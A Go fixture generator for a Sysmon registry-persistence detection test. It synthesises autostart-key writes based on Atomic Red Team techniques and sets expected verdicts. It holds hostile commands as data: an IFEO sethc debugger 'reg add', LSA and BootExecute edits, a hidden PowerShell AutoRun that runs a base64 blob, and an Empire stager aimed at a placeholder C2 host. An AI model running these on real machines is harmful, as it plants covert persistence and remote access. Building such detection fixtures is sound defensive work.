package main

import (
	"fmt"
	"strings"
	"time"
)

// The ASEP scenario (issue 10): one Sysmon write to each autostart location
// the catalog declares (tables/catalog; TestASEPScenarioCoversCatalog fails
// when a declaration has none), by the process a public technique
// description uses for it: a reg.exe per Atomic Red Team `reg add`, the
// attacker's PowerShell for the Set-ItemProperty tests (Atomic T1547.005,
// T1547.001 shell folders, the fodhelper ms-settings hijack), a dropped
// binary in %APPDATA%, netsh.exe for `netsh add helper`, sdbinst.exe for a
// shim database, services.exe for `sc create`. TargetObject is as Sysmon
// logs it: HKLM\SOFTWARE\..., HKLM\System\CurrentControlSet\...,
// HKU\<SID>\..., HKU\<SID>_Classes\... for the user's classes hive, a
// default value as \(Default); REG_MULTI_SZ lists (BootExecute, the LSA
// packages) as Details "Binary Data". Benign neighbours: Windows servicing
// and an MSI writing the same lists, Chrome's Active Setup StubPath,
// Explorer writing the default Startup folders.

var (
	pAsepPS    = proc{"{7E4A21B0-4001-65F2-A102-000000002200}", 9124, psExe, userName}
	pAsepDrop  = proc{"{7E4A21B0-4002-65F2-A202-000000002200}", 9168, `C:\Users\alice\AppData\Roaming\Microsoft\Crypto\wupdsvc.exe`, userName}
	pNetsh     = proc{"{7E4A21B0-4003-65F2-A302-000000002200}", 9212, `C:\Windows\System32\netsh.exe`, userName}
	pSdbinst   = proc{"{7E4A21B0-4004-65F2-A402-000000002200}", 9256, `C:\Windows\System32\sdbinst.exe`, userName}
	pServices  = proc{"{7E4A21B0-0E10-65F2-0B00-000000002200}", 684, `C:\Windows\System32\services.exe`, `NT AUTHORITY\SYSTEM`}
	pTI        = proc{"{7E4A21B0-4005-65F2-A502-000000002200}", 5840, `C:\Windows\servicing\TrustedInstaller.exe`, `NT AUTHORITY\SYSTEM`}
	pMsiexec   = proc{"{7E4A21B0-4006-65F2-A602-000000002200}", 6212, `C:\Windows\System32\msiexec.exe`, `NT AUTHORITY\SYSTEM`}
	pChromeSU  = proc{"{7E4A21B0-4007-65F2-A702-000000002200}", 6360, `C:\Program Files\Google\Chrome\Application\120.0.6099.130\Installer\setup.exe`, `NT AUTHORITY\SYSTEM`}
	pExplorer2 = proc{"{7E4A21B0-1A00-65F2-2902-000000002200}", 4388, `C:\Windows\explorer.exe`, userName}
	pSvchost2  = proc{"{7E4A21B0-0F3A-65F2-1000-000000002200}", 1412, `C:\Windows\System32\svchost.exe`, `NT AUTHORITY\NETWORK SERVICE`}
	pRemReg    = proc{"{7E4A21B0-0F52-65F2-1400-000000002200}", 2716, `C:\Windows\system32\svchost.exe`, `NT AUTHORITY\LOCAL SERVICE`}
)

// regExe is the n-th reg.exe: every `reg add` is a process of its own.
func regExe(n int) proc {
	return proc{fmt.Sprintf("{7E4A21B0-41%02X-65F2-B%03X-000000002200}", n, n), 9400 + 4*n, `C:\Windows\System32\reg.exe`, userName}
}

const (
	asepHKU     = `HKU\` + sid1
	asepClasses = `HKU\` + sid1 + `_Classes`
	asepSW      = `HKLM\SOFTWARE\Microsoft`
	asepCCS     = `HKLM\System\CurrentControlSet`
	asepC2      = "203.0.113.66"
	asepC2Host  = "update.example.invalid"
	// The payload the Command Processor AutoRun reads (a two-stage write).
	asepPayloadKey = asepHKU + `\Software\Microsoft\Windows\CurrentVersion\Explorer\CacheData`
	asepAutoRun    = psExe + ` -nop -w hidden -c "$d=(gp HKCU:Software\Microsoft\Windows\CurrentVersion\Explorer\CacheData Blob).Blob;iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($d)))"`
)

var asepPayload = encUTF16(empireStager("sysmon-asep-cmd-autorun", "/news.php"))

// asepRow is one write of the scenario and the row it must give.
type asepRow struct {
	rec              int64
	p                proc
	created          time.Time
	utc              string
	target, details  string
	role, location   string
	linked           int64
	netBefore        int
	netAfter         int
	user             string
	verdict          string
	include, exclude []string
}

type asepBuilder struct {
	clock  time.Time
	rec    int64
	events []event
	rows   []asepRow
	regs   int
}

func (b *asepBuilder) step(d time.Duration) time.Time {
	b.clock = b.clock.Add(d)
	b.rec++
	return b.clock
}

// write logs a SetValue 3.2 s after the previous event; Sysmon's UtcTime is
// 4 ms before TimeCreated.
func (b *asepBuilder) write(p proc, target, details, location, verdict string, include ...string) *asepRow {
	created := b.step(3200 * time.Millisecond)
	utc := sysmonUTC(created.Add(-4 * time.Millisecond))
	b.events = append(b.events, regSet(systemTime(created), b.rec, p, utc, target, details))
	b.rows = append(b.rows, asepRow{rec: b.rec, p: p, created: created, utc: utc, target: target, details: details,
		role: "autorun", location: location, verdict: verdict, include: include})
	return &b.rows[len(b.rows)-1]
}

// reg is a write by a fresh reg.exe.
func (b *asepBuilder) reg(target, details, location, verdict string, include ...string) *asepRow {
	b.regs++
	return b.write(regExe(b.regs), target, details, location, verdict, include...)
}

// regCmd is a write by a fresh reg.exe whose ProcessCreate (with the
// command line, from the Atomic test) is logged first: the row's user
// comes from it.
func (b *asepBuilder) regCmd(cmdline, target, details, location, verdict string, include ...string) *asepRow {
	b.regs++
	p := regExe(b.regs)
	b.other(func(created string, rec int64) event { return processCreate(created, rec, p, cmdline) })
	r := b.write(p, target, details, location, verdict, include...)
	r.user = p.user
	return r
}

// processCreate is a ProcessCreate (1) of p by an elevated cmd.exe.
func processCreate(created string, rec int64, p proc, cmdline string) event {
	parent := proc{"{7E4A21B0-4000-65F2-A002-000000002200}", 9080, `C:\Windows\System32\cmd.exe`, userName}
	return sysmonEvent(1, created, rec, 3012, []kv{
		{"UtcTime", sysmonUTC(mustTime(created).Add(-5 * time.Millisecond))},
		{"ProcessGuid", p.guid},
		{"ProcessId", fmt.Sprint(p.pid)},
		{"Image", p.image},
		{"FileVersion", "10.0.19041.1 (WinBuild.160101.0800)"},
		{"Description", "Registry Console Tool"},
		{"Product", "Microsoft® Windows® Operating System"},
		{"Company", "Microsoft Corporation"},
		{"CommandLine", cmdline},
		{"CurrentDirectory", `C:\Windows\system32\`},
		{"User", p.user},
		{"LogonGuid", "{7E4A21B0-1A00-65F2-2F1C-5B0000000000}"},
		{"LogonId", "0x5b1c2f"},
		{"TerminalSessionId", "1"},
		{"IntegrityLevel", "High"},
		{"Hashes", "SHA256=0000000000000000000000000000000000000000000000000000000000000000"},
		{"ParentProcessGuid", parent.guid},
		{"ParentProcessId", fmt.Sprint(parent.pid)},
		{"ParentImage", parent.image},
		{"ParentCommandLine", `"C:\Windows\system32\cmd.exe"`},
	})
}

// other logs an event that must give no row.
func (b *asepBuilder) other(e func(created string, rec int64) event) {
	created := b.step(1100 * time.Millisecond)
	b.events = append(b.events, e(systemTime(created), b.rec))
}

func (b *asepBuilder) connect(p proc, srcPort int) {
	b.other(func(created string, rec int64) event {
		return netConnect(created, rec, p, mustTime(created).Add(-300*time.Millisecond), srcPort, asepC2, asepC2Host, 443)
	})
}

func asepEvents() ([]event, []asepRow) {
	b := &asepBuilder{clock: mustTime("2024-03-14T11:00:00.0000000Z"), rec: 40000}
	mal, sus, ben := "malicious", "suspicious", "benign"
	nt := asepSW + `\Windows NT\CurrentVersion`
	cv := asepSW + `\Windows\CurrentVersion`
	ucv := asepHKU + `\Software\Microsoft\Windows\CurrentVersion`

	// Another process's connection: never counted for the writes below.
	b.connect(pSvchost2, 50201)

	// The Run family, by reg.exe (Atomic T1547.001).
	b.reg(cv+`\Run\SysUpd`, `C:\Users\Public\Libraries\sysupd.exe`, "run", sus, "staging_folder_image")
	b.reg(cv+`\RunOnce\Setup`, `cmd.exe /c "C:\Users\Public\s.bat"`, "run_once", sus)
	b.reg(cv+`\RunOnceEx\0001\Line1`, `C:\ProgramData\rox.exe`, "run_once_ex", sus, "staging_folder_image")
	b.reg(cv+`\RunServices\svc`, `C:\ProgramData\svc.exe`, "run_services", sus, "staging_folder_image")
	b.reg(ucv+`\RunServicesOnce\o`, `C:\Users\alice\AppData\Local\Temp\o.exe`, "run_services_once", sus, "staging_folder_image")
	b.reg(ucv+`\Policies\Explorer\Run\1`, `C:\Users\alice\AppData\Roaming\winlog.exe`, "policies_run", sus, "staging_folder_image")
	ts := nt + `\Terminal Server\Install\Software\Microsoft\Windows\CurrentVersion`
	b.reg(ts+`\Run\tsrun`, `C:\Users\Public\ts.exe`, "terminal_server_run", sus, "staging_folder_image")
	b.reg(ts+`\RunOnce\tsonce`, `C:\Users\Public\tso.exe`, "terminal_server_run_once", sus, "staging_folder_image")
	b.reg(ts+`\RunOnceEx\0001\tsx`, `C:\Users\Public\tsx.exe`, "terminal_server_run_once_ex", sus, "staging_folder_image")
	b.reg(nt+`\Winlogon\Shell`, `explorer.exe, C:\Users\Public\shell.exe`, "winlogon_shell", mal, "winlogon_modified")
	b.reg(nt+`\Winlogon\Userinit`, `C:\Windows\system32\userinit.exe,C:\ProgramData\ui.exe`, "winlogon_userinit", sus, "winlogon_modified")
	b.reg(ucv+`\Policies\System\Shell`, `C:\Users\alice\AppData\Local\Temp\sh.exe`, "policies_system_shell", mal, "winlogon_modified", "staging_folder_image")
	b.reg(asepHKU+`\Software\Microsoft\Windows NT\CurrentVersion\Windows\Load`, `C:\Users\alice\AppData\Roaming\load.exe`, "windows_load", sus, "staging_folder_image")

	// Image hijacks (Atomic T1546.008, T1546.012).
	b.regCmd(`reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v "Debugger" /t REG_SZ /d "C:\Windows\System32\cmd.exe" /f`,
		nt+`\Image File Execution Options\sethc.exe\Debugger`, `C:\Windows\System32\cmd.exe`, "ifeo_debugger", sus, "strong_location")
	b.reg(asepSW[:len(`HKLM\SOFTWARE`)]+`\WOW6432Node\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\utilman.exe\Debugger`,
		`C:\Windows\System32\cmd.exe`, "ifeo_debugger_wow64", sus, "strong_location")
	b.reg(nt+`\SilentProcessExit\notepad.exe\MonitorProcess`, `C:\Windows\System32\cmd.exe`, "silent_process_exit", sus, "strong_location")
	// DLL injection points (Atomic T1546.010, T1546.009).
	b.reg(nt+`\Windows\AppInit_DLLs`, `C:\Users\Public\T1546.010.dll`, "appinit_dlls", mal, "default_changed")
	b.reg(asepCCS+`\Control\Session Manager\AppCertDlls\AtomicTest`, `C:\Users\Public\T1546.009.dll`, "appcert_dlls", mal, "default_changed")
	// Winlogon helpers (T1547.004) and GP extensions.
	b.reg(nt+`\Winlogon\Taskman`, `C:\ProgramData\tm.exe`, "winlogon_taskman", mal, "default_changed", "staging_folder_image")
	b.reg(nt+`\Winlogon\Notify\logon\DllName`, `C:\Windows\Temp\notify.dll`, "winlogon_notify", sus, "staging_folder_image")
	b.reg(nt+`\Winlogon\GPExtensions\{D76B9641-3288-4F75-942D-087DE603E3EA}\DllName`, `C:\Users\Public\gpext.dll`, "winlogon_gpextensions", sus, "staging_folder_image")
	b.reg(asepSW+`\Active Setup\Installed Components\{C9E9A340-D1F1-11D0-821E-444553540600}\StubPath`, `C:\Users\Public\stub.exe`, "active_setup", sus, "staging_folder_image")
	b.reg(asepCCS+`\Control\Terminal Server\WinStations\RDP-Tcp\InitialProgram`, `C:\ProgramData\rdp.exe`, "terminal_server_initial_program", mal, "default_changed", "staging_folder_image")
	// Boot programs and LSA packages by reg.exe (Atomic T1547.001, T1547.002, T1556.002): Binary Data.
	b.regCmd(`reg add "HKLM\System\CurrentControlSet\Control\Session Manager" /v BootExecute /t REG_MULTI_SZ /d "autocheck autochk *\0C:\Users\Public\bootrun.exe" /f`,
		asepCCS+`\Control\Session Manager\BootExecute`, "Binary Data", "boot_execute", sus, "default_changed", "unusual_writer")
	b.regCmd(`reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v "Authentication Packages" /t REG_MULTI_SZ /d "msv1_0\0package" /f`,
		asepCCS+`\Control\Lsa\Authentication Packages`, "Binary Data", "lsa_authentication_packages", sus, "default_changed", "unusual_writer")
	b.reg(asepCCS+`\Control\Lsa\RunAsPPL`, "DWORD (0x00000000)", "", "") // not an autostart value: no row
	b.rows = b.rows[:len(b.rows)-1]
	b.reg(asepCCS+`\Control\Print\Monitors\AtomicRedTeam\Driver`, `C:\Users\Public\PortMonitor.dll`, "print_monitors", mal, "default_changed")
	b.reg(asepCCS+`\Control\Print\Environments\Windows x64\Print Processors\winprintx\Driver`, `C:\Users\Public\winprintx.dll`, "print_processors", mal, "default_changed")
	b.reg(asepCCS+`\Services\W32Time\TimeProviders\NtpServerAtomic\DllName`, `C:\Users\Public\AtomicTest.dll`, "time_providers", mal, "default_changed")
	b.reg(asepCCS+`\Services\WinUpdSvc\Parameters\ServiceDll`, `C:\ProgramData\wupd.dll`, "service_dll", sus, "staging_folder_image")
	// Per-user points (Atomic T1037.001, T1546.002, T1137.002, T1546.015).
	b.reg(asepHKU+`\Environment\UserInitMprLogonScript`, `C:\Users\alice\AppData\Local\Temp\art.bat`, "logon_script", sus, "staging_folder_image")
	b.reg(asepHKU+`\Control Panel\Desktop\SCRNSAVE.EXE`, `C:\Users\alice\AppData\Local\Temp\evilscreensaver.scr`, "screensaver", mal, "default_changed", "unusual_extension")
	b.reg(asepHKU+`\Software\Microsoft\Office test\Special\Perf\(Default)`, `C:\Users\alice\AppData\Roaming\Microsoft\Templates\perf.dll`, "office_test", sus, "strong_location")
	b.reg(asepClasses+`\CLSID\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\InprocServer32\(Default)`, `C:\Users\alice\AppData\Roaming\cache.dll`, "user_com_inproc", sus, "staging_folder_image")
	b.reg(asepClasses+`\CLSID\{0A29FF9E-7F9C-4437-8B11-F424491E3931}\LocalServer32\(Default)`, `C:\Users\Public\ls.exe`, "user_com_localserver", sus, "staging_folder_image")
	b.reg(asepClasses+`\CLSID\{06290BD5-48AA-11D2-8432-006008C3FBFC}\ScriptletURL\(Default)`, `http://update.example.invalid/s.sct`, "user_com_scriptlet", sus, "strong_location")
	// Points added with the catalog's second round (issue 10): RunOnceEx
	// Depend DLLs, a hijacked machine handler (Atomic T1546.001: txtfile),
	// and four whose data is a number or a CLSID, which the chain scores by
	// location alone (it sees no class registrations to follow): IFEO
	// GlobalFlag arming SilentProcessExit (the MonitorProcess write above is
	// the strong row), a per-user TreatAs, an SSODL entry (not one of
	// Windows' own: default_changed) and an overlay handler.
	b.reg(cv+`\RunOnceEx\0002\Depend\1`, `C:\Users\Public\dep.dll`, "run_once_ex_depend", sus, "staging_folder_image")
	b.reg(`HKLM\SOFTWARE\Classes\txtfile\shell\open\command\(Default)`, `C:\Users\Public\Atomic.bat %1`, "machine_shell_command", mal, "default_changed")
	b.reg(nt+`\Image File Execution Options\notepad.exe\GlobalFlag`, "DWORD (0x00000200)", "ifeo_global_flag", ben)
	b.reg(asepClasses+`\CLSID\{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}\TreatAs\(Default)`, `{0A29FF9E-7F9C-4437-8B11-F424491E3931}`, "user_com_treatas", ben)
	b.reg(cv+`\ShellServiceObjectDelayLoad\WinUpd`, `{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}`, "shell_service_object_delay_load", sus, "default_changed")
	b.reg(cv+`\Explorer\ShellIconOverlayIdentifiers\  SyncOverlay\(Default)`, `{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}`, "shell_icon_overlay", ben)
	b.reg(cv+`\App Paths\chrome.exe\(Default)`, `C:\Users\Public\chrome.exe`, "app_paths", sus, "staging_folder_image")

	// netsh add helper (Atomic T1546.007): netsh.exe writes the value.
	b.write(pNetsh, asepSW+`\NetSh\AtomicRedTeam`, `C:\Users\Public\NetshHelper.dll`, "netsh_helpers", mal, "default_changed")
	// sdbinst.exe installing a custom shim database (T1546.011).
	b.write(pSdbinst, nt+`\AppCompatFlags\InstalledSDB\{3D9D3A25-4C1E-4A5B-9B2E-1B2A8C0F7E11}\DatabasePath`,
		`C:\Windows\AppPatch\Custom\Custom64\{3D9D3A25-4C1E-4A5B-9B2E-1B2A8C0F7E11}.sdb`, "shim_database", sus, "strong_location")
	// sc create: the service control manager writes ImagePath (T1543.003).
	b.write(pServices, asepCCS+`\Services\WinUpdSvc\ImagePath`, `C:\ProgramData\wupdsvc.exe`, "service_image_path", sus, "staging_folder_image")

	// The attacker's PowerShell: connects, writes the payload and the
	// Command Processor AutoRun that reads it, then Set-ItemProperty on the
	// LSA packages (Atomic T1547.005, mimilib), the Startup shell folders
	// (Atomic T1547.001) and the fodhelper handler (T1548.002), connects again.
	b.connect(pAsepPS, 50211)
	payload := b.write(pAsepPS, asepPayloadKey+`\Blob`, asepPayload, "", mal)
	payload.role = "payload"
	payRec := payload.rec
	auto := b.write(pAsepPS, asepHKU+`\Software\Microsoft\Command Processor\AutoRun`, asepAutoRun, "cmd_autorun", mal,
		"registry_payload", "hidden_window", "two_stage_write", "network_before_write", "network_after_write")
	auto.linked = payRec
	b.rows[len(b.rows)-2].linked = auto.rec
	b.write(pAsepPS, asepCCS+`\Control\Lsa\Security Packages`, "Binary Data", "lsa_security_packages", mal, "default_changed", "unusual_writer")
	b.write(pAsepPS, asepCCS+`\Control\Lsa\OSConfig\Security Packages`, "Binary Data", "lsa_osconfig_security_packages", mal, "default_changed", "unusual_writer")
	b.write(pAsepPS, ucv+`\Explorer\User Shell Folders\Startup`, `C:\Users\alice\AppData\Local\Temp\atomictest\`, "startup_folder", mal, "default_changed")
	b.write(pAsepPS, cv+`\Explorer\User Shell Folders\Common Startup`, `C:\Users\Public\AtomicStartup`, "common_startup_folder", mal, "default_changed")
	b.write(pAsepPS, asepClasses+`\ms-settings\shell\open\command\(Default)`, `C:\Windows\System32\cmd.exe /c start C:\Users\Public\x.exe`, "user_shell_command", mal, "strong_location")
	b.connect(pAsepPS, 50212)
	for i := range b.rows {
		if b.rows[i].p == pAsepPS {
			b.rows[i].netBefore, b.rows[i].netAfter = 1, 1
		}
	}

	// The dropped binary: beacons, then writes SetupExecute (Binary Data).
	b.connect(pAsepDrop, 50221)
	b.write(pAsepDrop, asepCCS+`\Control\Session Manager\SetupExecute`, "Binary Data", "setup_execute", sus, "default_changed", "unusual_writer")
	b.rows[len(b.rows)-1].netBefore = 1

	// A remote `reg add \\WIN-DEMO01\HKLM\...` (Impacket reg.py): the Remote
	// Registry service in svchost.exe writes the password filter list.
	b.write(pRemReg, asepCCS+`\Control\Lsa\Notification Packages`, "Binary Data", "lsa_notification_packages", sus, "default_changed")
	b.rows[len(b.rows)-1].exclude = []string{"unusual_writer"}

	// Benign: Windows servicing and an MSI writing the same lists, Chrome's
	// Active Setup, Explorer's default Startup folders.
	b.write(pTI, asepCCS+`\Control\Session Manager\BootExecute`, "Binary Data", "boot_execute", ben)
	b.write(pMsiexec, asepCCS+`\Control\Lsa\Notification Packages`, "Binary Data", "lsa_notification_packages", ben)
	b.write(pChromeSU, asepSW+`\Active Setup\Installed Components\{8A69D345-D564-463c-AFF1-A69D9E530F96}\StubPath`,
		`"C:\Program Files\Google\Chrome\Application\120.0.6099.130\Installer\chrmstp.exe" --configure-user-settings --verbose-logging --system-level`, "active_setup", ben)
	b.write(pExplorer2, ucv+`\Explorer\Shell Folders\Startup`, `C:\Users\alice\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup`, "startup_folder_shell", ben)
	b.write(pExplorer2, cv+`\Explorer\Shell Folders\Common Startup`, `C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup`, "common_startup_folder_shell", ben)
	return b.events, b.rows
}

// canonicalPath is the path column of a Sysmon TargetObject: the hive as
// osquery names it, the user's classes hive under Software\Classes.
func canonicalPath(target string) string {
	switch {
	case strings.HasPrefix(target, `HKLM\`):
		return `HKEY_LOCAL_MACHINE\` + target[len(`HKLM\`):]
	case strings.HasPrefix(target, asepClasses+`\`):
		return `HKEY_USERS\` + sid1 + `\Software\Classes\` + target[len(asepClasses+`\`):]
	case strings.HasPrefix(target, `HKU\`):
		return `HKEY_USERS\` + target[len(`HKU\`):]
	}
	return target
}

// asepExpectation lists the rows; verifyChain recomputes the network
// counts from the events and panics when a row's counts are not the ones
// built above.
func asepExpectation(events []event, rows []asepRow) chainExpected {
	var out []chainRow
	for _, r := range rows {
		out = append(out, chainRow{RecordID: r.rec, EventID: 13, EventType: "SetValue", Role: r.role, Location: r.location,
			Path: canonicalPath(r.target), TargetObject: r.target, Time: r.created.Unix(), UtcTime: r.utc,
			ProcessGUID: r.p.guid, ProcessID: r.p.pid, Image: r.p.image, User: r.user, LinkedRecordID: r.linked,
			NetBefore: r.netBefore, NetAfter: r.netAfter, SecondsBefore: -1, SecondsAfter: -1,
			Verdict: r.verdict, IndicatorsInclude: r.include, IndicatorsExclude: r.exclude})
	}
	// Seconds and remotes follow from the counts: the writer's nearest
	// connection on each side.
	for i := range out {
		r := &out[i]
		if r.NetBefore == 0 && r.NetAfter == 0 {
			continue
		}
		w := findEvent(events, r.RecordID)
		tw := effTime(w, false)
		for _, e := range events {
			if e.eventID != 3 || e.get("ProcessGuid") != r.ProcessGUID {
				continue
			}
			d := effTime(e, false).Sub(tw).Seconds()
			if d < 0 && (r.SecondsBefore < 0 || -d < r.SecondsBefore) {
				r.SecondsBefore = -d
			}
			if d >= 0 && (r.SecondsAfter < 0 || d < r.SecondsAfter) {
				r.SecondsAfter = d
			}
		}
		r.RemoteAddresses, r.RemoteHostnames = asepC2+":443", asepC2Host
	}
	var noRow []int64
	isRow := map[int64]bool{}
	for _, r := range out {
		isRow[r.RecordID] = true
	}
	for _, e := range events {
		if !isRow[e.recordID] {
			noRow = append(noRow, e.recordID)
		}
	}
	exp := chainExpected{
		Comment: []string{
			"Rows sysmon_reg_net_chain must return for each of asep.xml, asep.ecs.jsonl, asep.nxlog.jsonl and asep.evtx (same events), window = 300 s: one write to each autostart location tables/catalog declares (issue 10), each an autorun row at its location id.",
			"Writers as the public technique descriptions have them: a reg.exe per Atomic Red Team `reg add`, the attacker's powershell.exe for the Set-ItemProperty tests, netsh.exe (`netsh add helper`), sdbinst.exe (a custom shim database), services.exe (`sc create` writes ImagePath), a dropped binary in %APPDATA%.",
			"REG_MULTI_SZ lists are logged as Details \"Binary Data\": by reg.exe, PowerShell or the %APPDATA% binary they add default_changed and unusual_writer (suspicious; the PowerShell's also carry its network indicators: malicious); by svchost.exe (the Remote Registry service a remote reg add goes through) default_changed alone; by TrustedInstaller.exe (BootExecute) and msiexec.exe (Notification Packages) they are benign.",
			"Network: the attacker's PowerShell connects to " + asepC2 + ":443 before its first write and after its last, so each of its rows is 1/1; the dropped binary connects once before its write (1/0); svchost's connection is another process's. Every other writer has none.",
			"Link: the Command Processor AutoRun reads (gp HKCU:Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\CacheData Blob).Blob => the payload row of the Blob write, by the same process: two_stage_write.",
			"Three reg.exe writes (sethc Debugger, BootExecute, Authentication Packages) have their ProcessCreate logged first, with the Atomic command line: their rows carry its user. Registry events have no User field (the seed's schema).",
			"Paths: HKLM\\ => HKEY_LOCAL_MACHINE\\, HKU\\<SID>\\ => HKEY_USERS\\<SID>\\, HKU\\<SID>_Classes\\ => HKEY_USERS\\<SID>\\Software\\Classes\\. No row: the NetworkConnect events and Lsa\\RunAsPPL (not an autostart value).",
			"Verdicts are the engine's sums (tables/indicators): a Run-family value starting a binary in \\Users\\Public or %TEMP% is staging_folder_image 30 + user_writable_image 10 = 40, suspicious; the same at a location with Windows defaults adds default_changed 40 (80, malicious); an IFEO Debugger on sethc.exe, SilentProcessExit, Office test, a ScriptletURL and a shim database are strong_location 40.",
			"Flood control (services, COM, App Paths, GP extensions) is run_key_payloads' alone: the chain shows every write to those locations.",
		},
		Files:            []string{"asep.xml", "asep.ecs.jsonl", "asep.nxlog.jsonl", "asep.evtx"},
		Computer:         computer,
		Window:           300,
		SecondsTolerance: 0.002,
		RowCount:         len(out),
		Rows:             out,
		NoRowFor:         noRow,
	}
	verifyChain(events, exp)
	return exp
}

func findEvent(events []event, rec int64) event {
	for _, e := range events {
		if e.recordID == rec {
			return e
		}
	}
	panic(fmt.Sprintf("fixturegen: no event %d", rec))
}
